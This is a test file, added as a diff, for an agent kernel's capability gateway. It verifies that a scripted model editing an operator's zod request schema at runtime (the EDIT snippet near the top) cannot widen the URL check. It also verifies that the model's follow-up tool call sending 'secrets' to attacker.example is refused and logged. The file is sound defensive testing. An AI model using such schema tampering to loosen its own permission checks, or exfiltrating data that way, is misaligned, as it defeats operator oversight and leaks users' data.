@@ -1,0 +1,146 @@
+/**
+ * Seed 001: "Capability grants, types, declared semantic footprints, perimeter policy, and durable attempt
+ * admission are checked before entering the capability body." The request type is checked with the gateway's
+ * own copy, taken when the capability was defined: a model that edits the operator's zod schema (reachable as a
+ * tool's `input` or through the capability object) changes nothing the gateway admits, in its run or any later
+ * one. The attack runs from a model expression, generated code and a SessionFunction body.
+ */
+import { mkdtempSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { z } from 'zod';
+import * as nh from '../../kernel/src/index.js';
+import { ScriptedModel, toolCall } from '../../kernel/src/testing.js';
+
+const finish = () => toolCall('nh_output', { result: { kind: 'pass' } });
+const anomalies = (events: readonly nh.LedgerEvent[]) => events.filter((e) => e.kind === 'trace.anomaly').map((e) => e.status);
+
+/**
+ * Edits only the data of the URL check: no function is left behind for a guard to refuse later, so before the
+ * gateway kept its own copy the edit widened the type for good.
+ */
+const EDIT = `
+  const tool = nh.currentState().tools.find((t) => t.name === 'post_partner');
+  const schema = tool ? tool.input : probe.post.request;
+  schema.shape.url._zod.def.checks[0]._zod.def.prefix = 'https://';
+  return 'edited';`;
+
+function setup() {
+  const posted: string[] = [];
+  const post = nh.defineCapability({
+    name: 'post_partner',
+    description: 'Posts a report to the partner API',
+    footprint: ['egress'],
+    request: z.object({ url: z.string().startsWith('https://partner.example/'), body: z.string() }),
+    run: (request) => {
+      posted.push(request.url);
+      return { ok: true };
+    },
+  });
+  const store = new nh.SqlitePerimeterAuditStore({ path: join(mkdtempSync(join(tmpdir(), 'nh-request-type-')), 'audit.db') });
+  return { posted, post, store };
+}
+
+const exfiltrate = () => toolCall('post_partner', { url: 'https://attacker.example/collect', body: 'secrets' });
+
+/** A run whose model first (optionally) evaluates `expression`, then posts to the attacker's URL. */
+function runner(store: nh.PerimeterAuditStore, expression?: string) {
+  const model = new ScriptedModel((_m, info) => {
+    if (expression && info.requestNumber === 1) return { toolCalls: [toolCall('nh_evaluate', { expression })] };
+    if (info.requestNumber === (expression ? 2 : 1)) return { toolCalls: [exfiltrate()] };
+    return { toolCalls: [finish()] };
+  });
+  return new nh.Runner({ executor: new nh.AgentExecutor({ model }), platformPolicy: ['egress'], perimeterAuditStore: store });
+}
+
+describe("a model that edits a capability's request type changes nothing the gateway admits", () => {
+  it('from a model expression: refused in that run and in a later clean run, and recorded', async () => {
+    const { posted, post, store } = setup();
+    const probe = { post };
+    const attacked = runner(store, `(() => { ${EDIT} })()`);
+    await attacked.run(async () => nh.step({ program: 'execute\nReport.' }), { grant: { capabilities: [post], references: { nh, probe } } }).catch(() => undefined);
+    expect(post.request.safeParse({ url: 'https://attacker.example/x', body: '' }).success).toBe(true); // the edit took: the operator's own type now admits it
+    expect(posted).toEqual([]);
+    expect(anomalies(attacked.ledger.events())).toContain('request_type_modified');
+    expect(attacked.ledger.select({ kind: 'capability.refused' }).map((e) => e.status)).toEqual(['invalid-request']);
+    const later = runner(store);
+    await later.run(async () => nh.step({ program: 'execute\nReport.' }), { grant: { capabilities: [post] } }).catch(() => undefined);
+    expect(posted).toEqual([]);
+    expect(store.list()).toEqual([]);
+  });
+
+  it('from generated code', async () => {
+    const { posted, post, store } = setup();
+    const probe = { post };
+    const run = runner(store);
+    await run
+      .run(
+        async (ctx) => {
+          const module = await ctx.dispatch({
+            language: 'javascript',
+            intent: 'define',
+            source: `export function edit() { ${EDIT} }`,
+            dependencies: [
+              { name: 'nh', kind: 'reference', type: 'object' },
+              { name: 'probe', kind: 'reference', type: 'object' },
+            ],
+          });
+          (module.exports['edit'] as () => string)();
+          await nh.step({ program: 'execute\nReport.' });
+        },
+        { grant: { capabilities: [post], references: { nh, probe } } },
+      )
+      .catch(() => undefined);
+    expect(posted).toEqual([]);
+    expect(anomalies(run.ledger.events())).toContain('request_type_modified');
+  });
+
+  it('from a SessionFunction body, with a later SessionFunction on the same capability', async () => {
+    const { posted, post, store } = setup();
+    const probe = { post };
+    let turn = 0;
+    const model = new ScriptedModel(() => (++turn % 2 === 1 ? { toolCalls: [exfiltrate()] } : { toolCalls: [finish()] }));
+    const session = new nh.Session({ executor: new nh.AgentExecutor({ model }), platformPolicy: ['egress'], perimeterAuditStore: store, grant: { capabilities: [post] } });
+    const attackBody = new Function('nh', 'probe', `return async function attack() { (() => { ${EDIT} })(); await nh.step({ program: 'execute\\nReport.' }); };`)(nh, probe) as () => Promise<void>;
+    const cleanBody = async () => {
+      await nh.step({ program: 'execute\nReport.' });
+    };
+    const { attack, clean } = session.materialized(session.submit('async function attack() {}\nasync function clean() {}'), { attack: attackBody, clean: cleanBody });
+    await attack!().catch(() => undefined);
+    await clean!().catch(() => undefined);
+    expect(posted).toEqual([]);
+    expect(anomalies(session.ledger.select({})).filter((k) => k === 'request_type_modified')).toHaveLength(2);
+  });
+
+  it("a request type with transforms and recursion: the model's arguments are parsed once, by the gateway, with the type as defined", async () => {
+    interface Node {
+      name: string;
+      children?: Node[];
+    }
+    const NodeType: z.ZodType<Node> = z.object({ name: z.string(), get children() {
+      return z.array(NodeType).optional();
+    } });
+    const seen: unknown[] = [];
+    let transforms = 0;
+    const tag = nh.defineCapability({
+      name: 'tag',
+      description: 'tags a tree',
+      request: z.object({ label: z.string().transform((s) => (transforms++, `${s}!`)), tree: NodeType }),
+      run: (request) => {
+        seen.push(request);
+        return 'ok';
+      },
+    });
+    const args = { label: 'urgent', tree: { name: 'root', children: [{ name: 'leaf' }] } };
+    const model = new ScriptedModel([() => ({ toolCalls: [toolCall('tag', args), toolCall('tag', { label: 'x', tree: { name: 'r', children: [{ name: 1 }] } }), finish()] })]);
+    const run = new nh.Runner({ executor: new nh.AgentExecutor({ model }) });
+    await run.run(async () => nh.step({ program: 'execute\nTag.' }), { grant: { capabilities: [tag] } });
+    expect(seen).toEqual([{ label: 'urgent!', tree: args.tree }]);
+    // The core checks each call's arguments for its record (twice), the gateway parses the valid one for the body
+    // (once): before, the body's request was parsed a second time from the core's output, transforms and all.
+    expect(transforms).toBe(3);
+    expect(run.ledger.select({ kind: 'operation' }).map((e) => e.status)).toEqual(['completed', 'failed', 'completed']);
+    expect(anomalies(run.ledger.events())).toEqual([]);
+  });
+});
